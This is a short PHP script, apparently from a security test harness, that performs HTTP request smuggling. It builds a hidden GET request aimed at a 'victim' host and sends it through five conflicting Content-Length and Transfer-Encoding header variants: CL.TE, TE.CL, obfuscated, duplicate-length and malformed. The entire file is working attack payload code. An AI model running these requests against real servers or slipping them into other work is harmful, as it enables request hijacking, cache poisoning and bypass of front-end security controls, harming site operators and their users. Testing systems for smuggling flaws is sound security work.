<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

$hidden = "GET /?preview=1 HTTP/1.1\r\nHost: " . target()['victim']['host'] . "\r\nConnection: close\r\n\r\n";
foreach (["Content-Length: 5\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\nContent-Length: 5\nConnection: keep-alive", "Transfer-Encoding: xchunked\nContent-Length: 5", "Content-Length: 0\nContent-Length: 5", "Transfer-Encoding : chunked\nContent-Length: 5"] as $lengths) {
	echo visit('POST / HTTP/1.1' . "\nHost: " . target()['attacker']['host'] . "\n$lengths", "0\r\n\r\n$hidden");
}
